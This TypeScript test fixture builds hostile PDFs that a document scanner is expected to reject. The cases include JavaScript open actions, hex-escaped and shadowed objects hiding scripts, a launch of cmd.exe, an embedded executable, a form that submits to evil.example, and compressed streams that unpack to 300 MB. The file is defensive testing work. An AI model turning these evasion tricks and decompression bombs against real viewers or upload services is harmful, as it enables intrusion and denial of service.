import { deflateSync } from "node:zlib";
import type { VerdictCode } from "#shared/domain/document/verdict.ts";
import { flateStream, objectStream, onePage, pdfOf, streamOf } from "./pdf-writer.ts";

/** A file that must not pass, and the verdicts that are right for it. */
export interface Hostile {
  readonly name: string;
  readonly make: () => Buffer;
  readonly verdicts: readonly VerdictCode[];
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
const hostile = (name: string, make: () => Buffer, ...verdicts: readonly VerdictCode[]): Hostile => ({
  name,
  make,
  verdicts: verdicts.length > 0 ? verdicts : ["active-content"],
});

const plain = () => pdfOf(onePage());
const before = (text: string) => () => Buffer.concat([Buffer.from(text, "latin1"), plain()]);
const after = (text: string) => () => Buffer.concat([plain(), Buffer.from(text, "latin1")]);

const pages = (count: number): Buffer => {
  const kids = Array.from({ length: count }, (_, index) => index + 3);
  return pdfOf([
    [1, "<< /Type /Catalog /Pages 2 0 R >>"],
    [2, `<< /Type /Pages /Kids [${kids.map((kid) => `${kid} 0 R`).join(" ")}] /Count ${count} >>`],
    ...kids.map(
      (kid) => [kid, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] satisfies [number, string],
    ),
  ]);
};

const withContents = (contents: Buffer): Buffer => pdfOf([...onePage().slice(0, 3), [4, contents]]);

let packed: Buffer | undefined;

/** 300 MB of spaces in 300 KB; compressed once more they take about a kilobyte. Made once: it takes half a second. */
const bomb = (): Buffer => {
  packed ??= deflateSync(Buffer.alloc(300_000_000, 0x20), { level: 9 });
  return packed;
};

const withPicture = (width: number, height: number, data: Buffer): Buffer =>
  pdfOf([
    ...onePage("", "/Resources << /XObject << /P 5 0 R >> >>").slice(0, 3),
    [4, flateStream("595 0 0 842 0 0 cm /P Do")],
    [
      5,
      streamOf(
        data,
        `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode`,
      ),
    ],
  ]);

/** A text of PDF syntax in another 8-bit encoding's clothes. */
const hexed = (name: string) => [...name].map((each) => `#${each.charCodeAt(0).toString(16)}`).join("");

/** Hostile PDFs of every kind that D2 is to stop. */
export const hostilePdfs: readonly Hostile[] = [
  hostile("a script in an open action", () => pdfOf(onePage(`/OpenAction ${SCRIPT}`))),
  hostile("a script in a compressed object stream", () =>
    pdfOf([...onePage("/OpenAction 9 0 R"), [8, objectStream([[9, SCRIPT]])]]),
  ),
  hostile("a script under a hex-escaped name", () =>
    pdfOf(onePage(`/OpenAction << /S /${hexed("JavaScript")} /${hexed("JS")} (app.alert\\(1\\)) >>`)),
  ),
  hostile("a script under a half-escaped name in an object stream", () =>
    pdfOf([...onePage("/OpenAction 9 0 R"), [8, objectStream([[9, "<< /S /Java#53cript >>"]])]]),
  ),
  hostile("a script among a page's additional actions", () => pdfOf(onePage("", `/AA << /O ${SCRIPT} >>`))),
  hostile("a started program", () => pdfOf(onePage("/OpenAction << /S /Launch /F (cmd.exe) >>"))),
  hostile("a file within the file", () =>
    pdfOf([
      ...onePage("/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"),
      [5, "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>"],
      [6, flateStream("MZ", "/Type /EmbeddedFile")],
    ]),
  ),
  hostile("a form that sends itself", () =>
    pdfOf(onePage("/OpenAction << /S /SubmitForm /F (https://evil.example) >>")),
  ),
  hostile("a form that is a program", () =>
    pdfOf([...onePage("/AcroForm << /XFA 5 0 R >>"), [5, flateStream("<xdp/>")]]),
  ),
  hostile("a shadow object: the same number twice, the script first", () =>
    pdfOf([[9, SCRIPT], ...onePage("/OpenAction 9 0 R"), [9, "<< /S /GoTo /D [3 0 R /Fit] >>"]]),
  ),
  hostile("a shadow object in a compressed stream", () =>
    pdfOf([
      ...onePage("/OpenAction 9 0 R"),
      [8, objectStream([[9, SCRIPT]])],
      [9, "<< /S /GoTo /D [3 0 R /Fit] >>"],
    ]),
  ),
  hostile("an object inside of a stream's data", () =>
    withContents(streamOf(Buffer.from(`0 0 m\n9 0 obj\n${SCRIPT}\nendobj\n`, "latin1"))),
  ),
  hostile("a script behind a bracket that never closes", () =>
    pdfOf([...onePage(), [9, "<< /Title (open /S /JavaScript >>"]]),
  ),
  hostile("an object stream in an encoding that hides it", () =>
    pdfOf([
      ...onePage(),
      [8, streamOf(Buffer.from("00>"), "/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode")],
    ]),
  ),
  hostile("a Windows program before the beginning", before("MZ\x90\x00"), "wrong-type"),
  hostile("a page of the web before the beginning", before("<html><script>alert(1)</script>"), "wrong-type"),
  hostile("a ZIP after the end", after("PK\x03\x04\x14\x00 and the rest of an archive")),
  hostile("two kilobytes after the end", after("x".repeat(2_048))),
  hostile(
    "a user password",
    () => pdfOf(onePage(), "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O (x) /U (y) >>"),
    "password-protected",
  ),
  hostile(
    "an owner password under a hex-escaped name",
    () => pdfOf(onePage(), `/${hexed("Encrypt")} << /Filter /Standard /V 1 /R 2 /P -4 /O (x) /U (y) >>`),
    "password-protected",
  ),
  hostile(
    "a kilobyte that unpacks to 300 MB, packed twice",
    () => withContents(streamOf(deflateSync(bomb()), "/Filter [/FlateDecode /FlateDecode]")),
    "too-large",
  ),
  hostile(
    "300 KB that unpack to 300 MB in an object stream",
    () => pdfOf([...onePage(), [8, streamOf(bomb(), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")]]),
    "too-large",
  ),
  hostile(
    "a picture of 100 pixels that unpacks to 300 MB",
    () => withPicture(10, 10, bomb()),
    "passed",
    "unreadable",
  ),
  hostile("a picture of 900 megapixels", () => withPicture(30_000, 30_000, bomb()), "too-large"),
  hostile(
    "a page of 14 million points",
    () =>
      pdfOf([
        ...onePage().slice(0, 2),
        [3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14000000 14000000] >>"],
      ]),
    "too-large",
  ),
  hostile("21 pages", () => pages(21), "too-many-pages"),
  hostile("no page", () => pages(0), "unreadable"),
  hostile(
    "a page tree that is its own child",
    () =>
      pdfOf([
        [1, "<< /Type /Catalog /Pages 2 0 R >>"],
        [2, "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"],
      ]),
    "unreadable",
    "passed",
  ),
  hostile("arrays nested a hundred deep", () =>
    pdfOf([...onePage(), [9, `${"[".repeat(100)}${"]".repeat(100)}`]]),
  ),
  hostile("a beginning and nothing else", () => Buffer.from("%PDF-1.7\n"), "unreadable"),
  hostile("the first half of a PDF", () => plain().subarray(0, 300), "unreadable", "passed"),
];

/** PDFs at their limits that are ordinary. */
export const limitPdfs = { twentyPages: () => pages(20) } as const;
